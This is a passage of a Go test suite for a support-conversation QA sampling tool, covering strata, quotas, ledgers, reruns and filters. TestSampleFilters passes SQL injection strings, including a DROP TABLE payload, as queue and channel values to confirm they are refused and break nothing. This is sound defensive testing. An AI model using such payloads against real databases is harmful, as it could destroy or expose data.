package qa

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/parley-cx/parley/internal/csvsafe"
	"github.com/parley-cx/parley/internal/warehouse"
)

// runSample runs Sample with the fixture clock and returns its result and
// the rows of the manifest.jsonl it wrote.
func runSample(t *testing.T, cfg Config) (Result, []manifestRow) {
	t.Helper()
	if cfg.Out == "" {
		cfg.Out = t.TempDir()
	}
	if cfg.Now.IsZero() {
		cfg.Now = fixtureNow
	}
	res, err := Sample(context.Background(), cfg)
	if err != nil {
		t.Fatalf("Sample: %v", err)
	}
	return res, readManifest(t, filepath.Join(res.Dir, "manifest.jsonl"))
}

func readManifest(t *testing.T, path string) []manifestRow {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var rows []manifestRow
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var r manifestRow
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		rows = append(rows, r)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return rows
}

func ids(rows []manifestRow) []string {
	var out []string
	for _, r := range rows {
		out = append(out, r.ConversationID)
	}
	slices.Sort(out)
	return out
}

// strataFixture holds 20 conversations on one day; c19 and c20 are still
// open. Its strata, worked out by hand from the definitions in docs/qa.md:
//   - high_friction: friction is 4×i; the 18 complete ones have a top
//     decile of ceil(18/10) = 2: c18 (72) and c17 (68). c19, c20 score higher but are open.
//   - long: c05, c06, c07 have 10 messages, the others 2 (c20 has 50 but is
//     open); the 2nd largest is 10, and ties at the cut are in: all three.
//   - low_csat: c02 (1), c03 (2); not c04 (3) nor the open c19 (1).
//   - escalated c08, c09; reopened c10; abandoned c11; sla_breach c12 (c13 met).
func strataFixture() ([]fconv, map[string][]string) {
	var convs []fconv
	for i := 1; i <= 20; i++ {
		convs = append(convs, fconv{
			id: fmt.Sprintf("c%02d", i), agent: "a1", day: 10,
			complete: i <= 18, friction: float64(4 * i), messages: 1,
		})
	}
	set := func(id string, f func(*fconv)) {
		f(&convs[slices.IndexFunc(convs, func(c fconv) bool { return c.id == id })])
	}
	set("c02", func(c *fconv) { c.csat = 1 })
	set("c03", func(c *fconv) { c.csat = 2 })
	set("c04", func(c *fconv) { c.csat = 3 })
	set("c19", func(c *fconv) { c.csat = 1; c.abandoned = true })
	for _, id := range []string{"c05", "c06", "c07"} {
		set(id, func(c *fconv) { c.messages = 9 })
	}
	set("c20", func(c *fconv) { c.messages = 49; c.escalated = true; c.sla = "missed" })
	set("c08", func(c *fconv) { c.escalated = true })
	set("c09", func(c *fconv) { c.escalated = true })
	set("c10", func(c *fconv) { c.reopens = 2 })
	set("c11", func(c *fconv) { c.abandoned = true })
	set("c12", func(c *fconv) { c.sla = "missed" })
	set("c13", func(c *fconv) { c.sla = "met" })
	member := map[string][]string{
		"c02": {LowCSAT}, "c03": {LowCSAT},
		"c05": {Long}, "c06": {Long}, "c07": {Long},
		"c08": {Escalated}, "c09": {Escalated}, "c10": {Reopened}, "c11": {Abandoned},
		"c12": {SLABreach}, "c17": {HighFriction}, "c18": {HighFriction},
	}
	return convs, member
}

func TestSampleStrata(t *testing.T) {
	convs, member := strataFixture()
	db := newWarehouse(t, convs)
	for _, stratum := range AllStrata {
		t.Run(stratum, func(t *testing.T) {
			var want []string
			for id, ss := range member {
				if slices.Contains(ss, stratum) {
					want = append(want, id)
				}
			}
			slices.Sort(want)
			_, rows := runSample(t, Config{DB: db, Size: 5, Strata: []string{stratum}, RandomShare: TargetedOnly})
			if len(rows) != 5 {
				t.Fatalf("sampled %d, want 5", len(rows))
			}
			var got []string
			for _, r := range rows {
				if !slices.Equal(r.Strata, member[r.ConversationID]) && !(len(r.Strata) == 0 && member[r.ConversationID] == nil) {
					t.Errorf("%s: strata %v, want %v", r.ConversationID, r.Strata, member[r.ConversationID])
				}
				switch r.Reason {
				case stratum:
					got = append(got, r.ConversationID)
				case ReasonRandom:
					// the stratum ran dry; the rest is topped up at random
				default:
					t.Errorf("%s: reason %q, want %s or random", r.ConversationID, r.Reason, stratum)
				}
			}
			slices.Sort(got)
			if !slices.Equal(got, want) {
				t.Errorf("picked from %s: %v, want %v", stratum, got, want)
			}
		})
	}
}

func TestSampleMix(t *testing.T) {
	convs, _ := strataFixture()
	db := newWarehouse(t, convs)
	tests := []struct {
		name string
		cfg  Config
		want map[string]int // picks per reason
	}{
		// 6 × 0.5 = 3 at random; 3 targeted take one each from the first three strata.
		{"half random", Config{Size: 6, RandomShare: 0.5}, map[string]int{ReasonRandom: 3, LowCSAT: 1, HighFriction: 1, Escalated: 1}},
		// Rotation: low_csat, long, low_csat, long.
		{"rotation", Config{Size: 4, RandomShare: TargetedOnly, Strata: []string{LowCSAT, Long}}, map[string]int{LowCSAT: 2, Long: 2}},
		// low_csat has 2 and long 3; the sixth is topped up at random.
		{"dry strata", Config{Size: 6, RandomShare: TargetedOnly, Strata: []string{LowCSAT, Long}}, map[string]int{LowCSAT: 2, Long: 3, ReasonRandom: 1}},
		{"no strata", Config{Size: 4, Strata: []string{NoStrata}}, map[string]int{ReasonRandom: 4}},
		{"all random", Config{Size: 4, RandomShare: 1}, map[string]int{ReasonRandom: 4}},
		// 20 candidates, fewer than asked: all of them, none drawn.
		{"fewer than size", Config{Size: 30}, map[string]int{ReasonAll: 20}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := tt.cfg
			cfg.DB = db
			_, rows := runSample(t, cfg)
			got := map[string]int{}
			for _, r := range rows {
				got[r.Reason]++
			}
			if !maps.Equal(got, tt.want) {
				t.Errorf("reasons %v, want %v", got, tt.want)
			}
		})
	}
}

// varied is a fixture of n conversations over a week, three agents and a
// few bot-only ones, with flags spread so that every stratum has members.
func varied(n int) []fconv {
	var out []fconv
	for i := range n {
		c := fconv{
			id: fmt.Sprintf("conv-%03d", i), day: 4 + i%7, complete: i%9 != 0,
			friction: float64(i*37%100) + 0.5, messages: 1 + i%5,
			escalated: i%6 == 0, reopens: i % 11 / 10, abandoned: i%13 == 0,
			queue: []string{"billing", "tech"}[i%2], channel: []string{"webchat", "email", "sms"}[i%3],
		}
		if i%10 != 7 {
			c.agent = []string{"ana", "bo", "cy"}[i%3]
		}
		if i%4 == 0 {
			c.csat = 1 + i%5
		}
		if i%5 == 0 {
			c.sla = []string{"met", "missed"}[i%2]
		}
		out = append(out, c)
	}
	return out
}

func TestSampleReproducible(t *testing.T) {
	db := newWarehouse(t, varied(120))
	cfg := Config{DB: db, Size: 20, Seed: 42}
	a, rowsA := runSample(t, cfg)
	b, rowsB := runSample(t, cfg)
	if a.Run != "2026-03-20-42" {
		t.Errorf("run %q, want 2026-03-20-42", a.Run)
	}
	filesA, filesB := readTree(t, a.Dir), readTree(t, b.Dir)
	if len(filesA) < 23 { // index, 2 manifests, 20 transcripts
		t.Fatalf("packet has %d files: %v", len(filesA), slices.Sorted(maps.Keys(filesA)))
	}
	if !slices.Equal(slices.Sorted(maps.Keys(filesA)), slices.Sorted(maps.Keys(filesB))) {
		t.Fatalf("file lists differ: %v vs %v", slices.Sorted(maps.Keys(filesA)), slices.Sorted(maps.Keys(filesB)))
	}
	for name, data := range filesA {
		if !bytes.Equal(data, filesB[name]) {
			t.Errorf("%s differs between two runs with the same seed", name)
		}
	}
	if !slices.Equal(ids(rowsA), ids(rowsB)) {
		t.Errorf("samples differ: %v vs %v", ids(rowsA), ids(rowsB))
	}

	cfg.Seed = 43
	_, rowsC := runSample(t, cfg)
	if slices.Equal(ids(rowsA), ids(rowsC)) {
		t.Errorf("seeds 42 and 43 drew the same sample %v", ids(rowsA))
	}
}

func readTree(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		out[rel], err = os.ReadFile(p)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestSamplePerAgent(t *testing.T) {
	var convs []fconv
	add := func(agent string, n int) {
		for i := range n {
			convs = append(convs, fconv{id: fmt.Sprintf("%s-%02d", agent, i), agent: agent, day: 10, complete: true, csat: 1 + i%5})
		}
	}
	add("ana", 10)
	add("bo", 3)
	add("cy", 6)
	add("", 4) // bot-only: no agent to hold to a quota
	db := newWarehouse(t, convs)

	res, rows := runSample(t, Config{DB: db, PerAgent: 5})
	got := map[string]int{}
	for _, r := range rows {
		got[r.Agent]++
		wantNote := ""
		if r.Agent == "bo" {
			wantNote = "agent had 3 of 5"
		}
		if r.QuotaNote != wantNote {
			t.Errorf("%s: quota note %q, want %q", r.ConversationID, r.QuotaNote, wantNote)
		}
	}
	if want := map[string]int{"ana": 5, "bo": 3, "cy": 5}; !maps.Equal(got, want) {
		t.Errorf("per agent %v, want %v", got, want)
	}
	if want := []Shortfall{{Agent: "bo", Wanted: 5, Had: 3}}; !slices.Equal(res.Short, want) {
		t.Errorf("Short = %v, want %v", res.Short, want)
	}
	index, err := os.ReadFile(filepath.Join(res.Dir, "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(index), "<bdi>bo</bdi>: 3 of 5 available") {
		t.Errorf("index.html does not report bo's short quota")
	}
}

func TestSampleAttribution(t *testing.T) {
	// Two conversations that ana replied to most, opened by bo and closed by cy,
	// and one handled by cy alone.
	db := newWarehouse(t, []fconv{
		{id: "c1", agent: "ana", first: "bo", last: "cy", day: 10, complete: true},
		{id: "c2", agent: "ana", first: "bo", last: "cy", day: 10, complete: true},
		{id: "c3", agent: "cy", day: 10, complete: true},
	})
	tests := []struct {
		attribute string
		want      map[string]int
	}{
		{"", map[string]int{"ana": 2, "cy": 1}},
		{AttributeMostActive, map[string]int{"ana": 2, "cy": 1}},
		{AttributeFirst, map[string]int{"bo": 2, "cy": 1}},
		{AttributeLast, map[string]int{"cy": 3}},
	}
	for _, tt := range tests {
		t.Run(cmp.Or(tt.attribute, "default"), func(t *testing.T) {
			_, rows := runSample(t, Config{DB: db, PerAgent: 5, AttributeTo: tt.attribute})
			got := map[string]int{}
			for _, r := range rows {
				got[r.Agent]++
				if want := cmp.Or(tt.attribute, AttributeMostActive); r.AttributedBy != want {
					t.Errorf("%s: attributed_by %q, want %q", r.ConversationID, r.AttributedBy, want)
				}
			}
			if !maps.Equal(got, tt.want) {
				t.Errorf("per agent %v, want %v", got, tt.want)
			}
		})
	}
}

// Each agent's picks come from its own random stream: more conversations
// for one agent leave every other agent's sample as it was.
func TestDrawAgentsIndependent(t *testing.T) {
	mk := func(bo int) []candidate {
		var cs []candidate
		for i := range 30 {
			cs = append(cs, candidate{id: fmt.Sprintf("ana-%02d", i), agent: "ana", complete: true})
		}
		for i := range bo {
			cs = append(cs, candidate{id: fmt.Sprintf("bo-%02d", i), agent: "bo", complete: true})
		}
		slices.SortFunc(cs, func(a, b candidate) int { return strings.Compare(a.id, b.id) })
		return cs
	}
	r := rules{perAgent: 4, randomShare: 1, seed: 7}
	of := func(picks []Pick, agent string) []string {
		var out []string
		for _, p := range picks {
			if p.Agent == agent {
				out = append(out, p.ConversationID)
			}
		}
		return out
	}
	few, _, _ := draw(mk(5), nil, r)
	many, _, _ := draw(mk(25), nil, r)
	if !slices.Equal(of(few, "ana"), of(many, "ana")) {
		t.Errorf("ana's picks changed with bo's workload: %v vs %v", of(few, "ana"), of(many, "ana"))
	}
	if slices.Equal(of(few, "bo"), of(many, "bo")) && len(of(few, "bo")) == 4 {
		t.Errorf("bo's picks did not change with bo's pool")
	}
}

// The ledger keeps later runs from repeating conversations; a rerun of the
// same run reproduces it, and --allow-repeat ignores the ledger.
func TestSampleLedger(t *testing.T) {
	var convs []fconv
	for i := range 12 {
		convs = append(convs, fconv{id: fmt.Sprintf("c%02d", i), agent: "ana", day: 10, complete: true})
	}
	db := newWarehouse(t, convs)
	out := t.TempDir()
	day := func(d int) time.Time { return fixtureNow.AddDate(0, 0, d) }
	base := Config{DB: db, Out: out, Size: 5, Seed: 1, RandomShare: 1}

	cfg := base
	cfg.Now = day(0)
	_, first := runSample(t, cfg)
	cfg.Now = day(1)
	_, second := runSample(t, cfg)
	if overlap := intersect(ids(first), ids(second)); len(overlap) > 0 {
		t.Errorf("second run repeated %v", overlap)
	}
	_, again := runSample(t, cfg)
	if !slices.Equal(ids(again), ids(second)) {
		t.Errorf("rerun of the same run drew %v, first time %v", ids(again), ids(second))
	}
	ledger := readLedgerRows(t, filepath.Join(out, DefaultLedgerName))
	if len(ledger) != 10 {
		t.Errorf("ledger has %d rows after 5+5 (and a rerun), want 10", len(ledger))
	}
	for _, row := range ledger {
		if row[0] != "2026-03-20-1" && row[0] != "2026-03-21-1" {
			t.Errorf("ledger row with run %q", row[0])
		}
	}

	cfg.Now = day(2)
	res, third := runSample(t, cfg)
	if want := setMinus(ids(convsIDs(convs)), append(ids(first), ids(second)...)); !slices.Equal(ids(third), want) {
		t.Errorf("third run drew %v, want the 2 never sampled %v", ids(third), want)
	}
	if res.Skipped != 10 {
		t.Errorf("Skipped = %d, want 10", res.Skipped)
	}
	cfg.Now, cfg.AllowRepeat = day(3), true
	_, fourth := runSample(t, cfg)
	if len(fourth) != 5 {
		t.Errorf("with AllowRepeat drew %d, want 5", len(fourth))
	}
}

// A rerun of the same run (same options) replaces its packet: no page of
// the earlier attempt is left behind, and no temporary folder either.
func TestSampleRerunReplacesPacket(t *testing.T) {
	db := newWarehouse(t, varied(40))
	out := t.TempDir()
	first, _ := runSample(t, Config{DB: db, Out: out, Size: 3, Seed: 5})
	stale := filepath.Join(first.Dir, transcriptDir, "99.html")
	if err := os.WriteFile(stale, []byte("left by an earlier attempt"), 0o644); err != nil {
		t.Fatal(err)
	}
	res, rows := runSample(t, Config{DB: db, Out: out, Size: 3, Seed: 5})
	pages, err := os.ReadDir(filepath.Join(res.Dir, transcriptDir))
	if err != nil {
		t.Fatal(err)
	}
	if len(pages) != 3 || len(rows) != 3 {
		t.Errorf("after the rerun: %d pages, %d manifest rows, want 3 each", len(pages), len(rows))
	}
	entries, err := os.ReadDir(out)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range entries {
		names = append(names, e.Name())
	}
	if want := []string{res.Run, DefaultLedgerName}; !slices.Equal(names, want) {
		t.Errorf("output folder holds %v, want %v", names, want)
	}
}

// TestSampleOtherOptionsKeepPacket: a run with the same run id (date and
// seed) as an existing packet but other options is refused, naming the
// options that differ, and leaves the packet and the ledger as they were
// (it used to replace the packet and drop its picks from the ledger, so
// they could be sampled again). A packet that does not record its options
// is kept too.
func TestSampleOtherOptionsKeepPacket(t *testing.T) {
	db := newWarehouse(t, sliced(40))
	first := Config{DB: db, Size: 5, Channel: "email", Now: fixtureNow}
	tests := []struct {
		name   string
		change func(*Config)
		legacy bool // the packet's options file removed, as an earlier parley wrote it
		want   []string
	}{
		{"no channel", func(c *Config) { c.Channel = "" }, false, []string{`--channel "email" there, "" now`}},
		{"market", func(c *Config) { c.Market = "DE" }, false, []string{`--market "" there, "DE" now`}},
		{"reason", func(c *Config) { c.Reason = "refund" }, false, []string{`--reason "" there, "refund" now`}},
		{"size and strata", func(c *Config) { c.Size, c.Strata = 10, []string{LowCSAT} }, false,
			[]string{"--size 5 there, 10 now", `--strata "low_csat,high_friction,`, `there, "low_csat" now`}},
		{"period", func(c *Config) { c.From, c.To = c.Now.AddDate(0, 0, -15), c.Now.AddDate(0, 0, -14) }, false, []string{"--from ", "--to "}},
		{"same options, no record", func(*Config) {}, true, []string{"no " + OptionsName, "remove that folder"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out := t.TempDir()
			cfg := first
			cfg.Out = out
			res, _ := runSample(t, cfg)
			if tt.legacy {
				if err := os.Remove(filepath.Join(res.Dir, OptionsName)); err != nil {
					t.Fatal(err)
				}
			}
			before := readTree(t, out)
			tt.change(&cfg)
			_, err := Sample(context.Background(), cfg)
			if !errors.Is(err, ErrOtherOptions) {
				t.Fatalf("Sample with other options: %v, want ErrOtherOptions", err)
			}
			for _, w := range append(tt.want, res.Dir, "--seed", "--out") {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if after := readTree(t, out); !maps.EqualFunc(before, after, bytes.Equal) {
				t.Errorf("the refused run changed %s: files %v, were %v", out, slices.Sorted(maps.Keys(after)), slices.Sorted(maps.Keys(before)))
			}
			// Its own seed keeps both, and the ledger both runs' picks.
			cfg.Seed = 99
			if _, err := Sample(context.Background(), cfg); err != nil {
				t.Fatalf("with its own seed: %v", err)
			}
			if _, err := os.Stat(filepath.Join(res.Dir, "index.html")); err != nil {
				t.Errorf("the first packet is gone: %v", err)
			}
			runs := map[string]int{}
			for _, row := range readLedgerRows(t, filepath.Join(out, DefaultLedgerName)) {
				runs[row[colRun]]++
			}
			if runs[res.Run] != len(res.Sampled) {
				t.Errorf("ledger holds %d rows of %s, want its %d picks (runs: %v)", runs[res.Run], res.Run, len(res.Sampled), runs)
			}
		})
	}
}

func readLedgerRows(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[0], ledgerHeader) {
		t.Fatalf("ledger header %v", rows[0])
	}
	return rows[1:]
}

func convsIDs(cs []fconv) []manifestRow {
	var out []manifestRow
	for _, c := range cs {
		out = append(out, manifestRow{ConversationID: c.id})
	}
	return out
}

func intersect(a, b []string) []string {
	var out []string
	for _, x := range a {
		if slices.Contains(b, x) {
			out = append(out, x)
		}
	}
	return out
}

func setMinus(a, b []string) []string {
	var out []string
	for _, x := range a {
		if !slices.Contains(b, x) {
			out = append(out, x)
		}
	}
	return out
}

// Filters are bound parameters: injection strings match nothing and break nothing.
func TestSampleFilters(t *testing.T) {
	db := newWarehouse(t, varied(60))
	tests := []struct {
		name           string
		queue, channel string
		from, to       string
		want           int // candidates, counted by hand from varied(60)
	}{
		{"all week", "", "", "", "", 60},
		{"queue", "billing", "", "", "", 30},
		{"queue and channel", "tech", "email", "", "", 10},
		{"one day", "", "", "2026-03-06", "2026-03-06", 9}, // day 4: i%7 == 0
		// Values no conversation has: refused, naming the values that exist.
		{"injection in queue", "billing' OR '1'='1", "", "", "", -1},
		{"injection in channel", "", "x'); DROP TABLE conversations; --", "", "", -1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			cfg := Config{DB: db, Queue: tt.queue, Channel: tt.channel, Size: 100, AllowRepeat: true}
			if tt.from != "" {
				cfg.From, _ = time.Parse(time.DateOnly, tt.from)
				cfg.To, _ = time.Parse(time.DateOnly, tt.to)
			}
			if tt.want < 0 {
				cfg.Out, cfg.Now = t.TempDir(), fixtureNow
				if _, err := Sample(context.Background(), cfg); !errors.Is(err, warehouse.ErrUnknownFilterValue) || !strings.Contains(err.Error(), "most conversations first: ") {
					t.Errorf("Sample: %v, want the value refused, naming the values that exist", err)
				}
				return
			}
			res, rows := runSample(t, cfg)
			if res.Candidates != tt.want || len(rows) != tt.want {
				t.Errorf("candidates %d, sampled %d, want %d", res.Candidates, len(rows), tt.want)
			}
			for _, r := range rows {
				if (tt.queue != "" && r.Queue != tt.queue) || (tt.channel != "" && r.Channel != tt.channel) {
					t.Errorf("%s is in %s/%s", r.ConversationID, r.Queue, r.Channel)
				}
			}
		})
	}
	// The warehouse is untouched.
	res, _ := runSample(t, Config{DB: db, Size: 1})
	if res.Candidates != 60 {
		t.Errorf("after the injection attempts the period has %d conversations, want 60", res.Candidates)
	}
}

// sliced is varied(n) with markets and contact reasons that cut across its queues and
// channels: DE, DE, FR, none, none by i%5; refund, delivery, other by (i/2)%3.
func sliced(n int) []fconv {
	cs := varied(n)
	for i := range cs {
		cs[i].market = []string{"DE", "DE", "FR", "", ""}[i%5]
		cs[i].reason = []string{"refund", "delivery", "other"}[i/2%3]
	}
	return cs
}

// TestSampleMarketAndReason: Market and Reason (qa sample --market, --reason) draw only the
// conversations of their slice, alone, together and with Queue, as parley report's filters
// keep them: market "(none)" is the conversations without one. The packet's index names the
// slice. (There were no such options: a QA lead could not sample the slice of the report.)
func TestSampleMarketAndReason(t *testing.T) {
	convs := sliced(60)
	db := newWarehouse(t, convs)
	byID := map[string]fconv{}
	for _, c := range convs {
		byID[c.id] = c
	}
	for _, tt := range []struct {
		name, queue, market, reason, index string
	}{
		{"market", "", "DE", "", "market DE"},
		{"no market", "", "(none)", "", "market (none)"},
		{"reason", "", "", "refund", "contact reason refund"},
		{"market and reason", "", "FR", "delivery", "market FR, contact reason delivery"},
		{"queue and market", "billing", "DE", "", "queue billing, market DE"},
		{"queue and reason", "tech", "", "other", "queue tech, contact reason other"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			in := func(c fconv) bool {
				return (tt.queue == "" || c.queue == tt.queue) && (tt.reason == "" || c.reason == tt.reason) &&
					(tt.market == "" || c.market == tt.market || c.market == "" && tt.market == "(none)")
			}
			want := 0
			for _, c := range convs {
				if in(c) {
					want++
				}
			}
			if want == 0 || want == len(convs) {
				t.Fatalf("fixture: %d of %d conversations in the slice, want some but not all", want, len(convs))
			}
			res, rows := runSample(t, Config{DB: db, Queue: tt.queue, Market: tt.market, Reason: tt.reason, Size: 100, AllowRepeat: true})
			if res.Candidates != want || len(rows) != want {
				t.Errorf("candidates %d, sampled %d, want the slice's %d", res.Candidates, len(rows), want)
			}
			for _, r := range rows {
				if c := byID[r.ConversationID]; !in(c) {
					t.Errorf("%s (queue %s, market %q, reason %s) is not in the slice", c.id, c.queue, c.market, c.reason)
				}
			}
			index, err := os.ReadFile(filepath.Join(res.Dir, "index.html"))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(string(index), tt.index) {
				t.Errorf("the index page does not name the slice %q", tt.index)
			}
		})
	}
}

// TestSampleUnknownMarketOrReason: a Market or Reason no conversation has is refused as
// report's are (warehouse.ErrUnknownFilterValue, a usage error on the command line), naming
// the values that exist and the near miss; nothing is written.
func TestSampleUnknownMarketOrReason(t *testing.T) {
	db := newWarehouse(t, sliced(20))
	for _, tt := range []struct {
		name           string
		market, reason string
		want           []string
	}{
		{"market", "de", "", []string{`market: "de": not in the warehouse`, "DE", "FR", "(none)", "did you mean DE?"}},
		{"reason", "", "refnd", []string{`reason: "refnd": not in the warehouse`, "refund", "delivery", "other", "did you mean refund?"}},
		{"reason in another case", "", "Delivery", []string{`reason: "Delivery"`, "did you mean delivery?"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out := t.TempDir()
			_, err := Sample(context.Background(), Config{DB: db, Out: out, Queue: "billing", Market: tt.market, Reason: tt.reason, Now: fixtureNow})
			if !errors.Is(err, warehouse.ErrUnknownFilterValue) {
				t.Fatalf("Sample: %v, want ErrUnknownFilterValue", err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if left := readTree(t, out); len(left) > 0 {
				t.Errorf("the refused sample wrote %v", slices.Sorted(maps.Keys(left)))
			}
		})
	}
}

// TestSampleNoQueue: Queue NoneValue (qa sample --queue '(none)', the label parley report's
// pages give conversations without a last queue) draws those conversations, in the random share
// and in the auto_fail stratum alike (sql/qa/02_candidates.sql, 05_auto_fails.sql), as report's
// --queue '(none)' keeps them. It used to be refused as a queue no conversation has. A warehouse
// where every conversation has a queue refuses it, saying so.
func TestSampleNoQueue(t *testing.T) {
	convs := varied(40)
	none := map[string]bool{}
	for i := range convs {
		if i%4 == 3 {
			convs[i].queue, convs[i].complete = NoneValue, true
			none[convs[i].id] = true
		}
		convs[i].auto = []autoRow{{check: "greeting", result: "fail"}}
	}
	db := newWarehouse(t, convs)
	res, rows := runSample(t, Config{DB: db, Queue: NoneValue, Size: 100, Strata: []string{AutoFail}, RandomShare: TargetedOnly})
	if res.Candidates != len(none) || len(rows) != len(none) {
		t.Errorf("candidates %d, sampled %d, want the %d conversations without a queue", res.Candidates, len(rows), len(none))
	}
	for _, r := range rows {
		if !none[r.ConversationID] || r.Queue != "" {
			t.Errorf("%s (queue %q) has a queue", r.ConversationID, r.Queue)
		}
		if !slices.Contains(r.Strata, AutoFail) {
			t.Errorf("%s is in the strata %v, want %s: its failed check was not read", r.ConversationID, r.Strata, AutoFail)
		}
	}

	_, err := Sample(context.Background(), Config{DB: newWarehouse(t, varied(10)), Out: t.TempDir(), Queue: NoneValue, Now: fixtureNow})
	if !errors.Is(err, warehouse.ErrUnknownFilterValue) || !strings.Contains(err.Error(), "every conversation has a queue") {
		t.Errorf("--queue (none) where every conversation has a queue: %v, want it refused saying so", err)
	}
}

// TestSampleOldWarehouse: a warehouse built before conversations had markets and contact
// reasons is refused in one line, wrapping warehouse.ErrOldWarehouse, that says so and how to
// rebuild it, whether or not a --market or --reason is given; nothing is written. (It failed
// with DuckDB's binder error on market.)
func TestSampleOldWarehouse(t *testing.T) {
	db := newWarehouse(t, sliced(20))
	execOn(t, db, "ALTER TABLE conversations DROP COLUMN market", "ALTER TABLE conversations DROP COLUMN contact_reason")
	for _, cfg := range []Config{{}, {Market: "DE"}, {Reason: "refund"}} {
		cfg.DB, cfg.Out, cfg.Now = db, t.TempDir(), fixtureNow
		_, err := Sample(context.Background(), cfg)
		if !errors.Is(err, warehouse.ErrOldWarehouse) {
			t.Fatalf("Sample (market %q, reason %q) of an old warehouse: %v, want ErrOldWarehouse", cfg.Market, cfg.Reason, err)
		}
		for _, want := range []string{"predates conversation markets and contact reasons", "no market, no contact_reason", "parley build --full"} {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("error %q does not say %q", err, want)
			}
		}
		if strings.Contains(err.Error(), "\n") {
			t.Errorf("error %q is more than one line", err)
		}
		if left := readTree(t, cfg.Out); len(left) > 0 {
			t.Errorf("the refused sample wrote %v", slices.Sorted(maps.Keys(left)))
		}
	}
}

// TestSampleRerunOfPacketBeforeMarket: a packet whose options.json was written before
// --market and --reason existed (neither key) is rerun by the same options without them,
// byte for byte; with --market it is another sample, refused.
func TestSampleRerunOfPacketBeforeMarket(t *testing.T) {
	db := newWarehouse(t, sliced(40))
	cfg := Config{DB: db, Out: t.TempDir(), Size: 5, Channel: "email", Now: fixtureNow}
	res, _ := runSample(t, cfg)
	path := filepath.Join(res.Dir, OptionsName)
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var opts map[string]any
	if err := json.Unmarshal(b, &opts); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"market", "reason"} {
		if v, ok := opts[key]; !ok || v != "" {
			t.Errorf("%s: %s is %v (present: %v), want \"\"", OptionsName, key, v, ok)
		}
		delete(opts, key)
	}
	if b, err = json.Marshal(opts); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	before := readTree(t, res.Dir)
	runSample(t, cfg)
	after := readTree(t, res.Dir)
	delete(before, OptionsName)
	delete(after, OptionsName) // rewritten with both keys
	if !maps.EqualFunc(before, after, bytes.Equal) {
		t.Errorf("the rerun did not reproduce the packet")
	}
	cfg.Market = "DE"
	if _, err := Sample(context.Background(), cfg); !errors.Is(err, ErrOtherOptions) || !strings.Contains(err.Error(), `--market "" there, "DE" now`) {
		t.Errorf("Sample with --market DE over the packet: %v, want ErrOtherOptions naming --market", err)
	}
}

func TestSampleDefaultPeriod(t *testing.T) {
	db := newWarehouse(t, varied(30)) // days 4..10: 2026-03-06 .. 2026-03-12
	res, _ := runSample(t, Config{DB: db, Size: 1})
	if res.From != "2026-03-06" || res.To != "2026-03-12" {
		t.Errorf("default period %s to %s, want 2026-03-06 to 2026-03-12", res.From, res.To)
	}
	if res.Seed != 20260320 {
		t.Errorf("default seed %d, want the run date 20260320", res.Seed)
	}

	// Late events for old conversations push the last event five days past
	// every conversation: the default period still ends on the last
	// conversation's date, not on days that hold none.
	execOn(t, db, "UPDATE warehouse_info SET last_event_at = last_event_at + INTERVAL 5 DAY")
	if res, _ := runSample(t, Config{DB: db, Size: 1}); res.From != "2026-03-06" || res.To != "2026-03-12" {
		t.Errorf("default period after late events %s to %s, want 2026-03-06 to 2026-03-12", res.From, res.To)
	}
}

func TestValidate(t *testing.T) {
	ok := Config{DB: "w.duckdb", Out: "out"}
	tests := []struct {
		name  string
		edit  func(*Config)
		field string // "" for valid
	}{
		{"defaults", func(*Config) {}, ""},
		{"no db", func(c *Config) { c.DB = "" }, "db:"},
		{"no out", func(c *Config) { c.Out = "" }, "out:"},
		{"both quotas", func(c *Config) { c.Size, c.PerAgent = 5, 2 }, "size, per-agent:"},
		{"negative size", func(c *Config) { c.Size = -1 }, "size:"},
		{"share above one", func(c *Config) { c.RandomShare = 1.5 }, "random-share:"},
		{"targeted only", func(c *Config) { c.RandomShare = TargetedOnly }, ""},
		{"unknown stratum", func(c *Config) { c.Strata = []string{"low_csat", "angry"} }, `strata: unknown stratum "angry"`},
		{"misspelt stratum", func(c *Config) { c.Strata = []string{"low_cast"} }, `strata: unknown stratum "low_cast" (known: low_csat, `},
		{"misspelt stratum, suggested", func(c *Config) { c.Strata = []string{"low_cast"} }, `; did you mean low_csat?`},
		{"misspelt attribution, suggested", func(c *Config) { c.AttributeTo = "most_active" }, `"most_active" must be most-active, first or last; did you mean most-active?`},
		{"none with others", func(c *Config) { c.Strata = []string{"none", "long"} }, `unknown stratum "none"`},
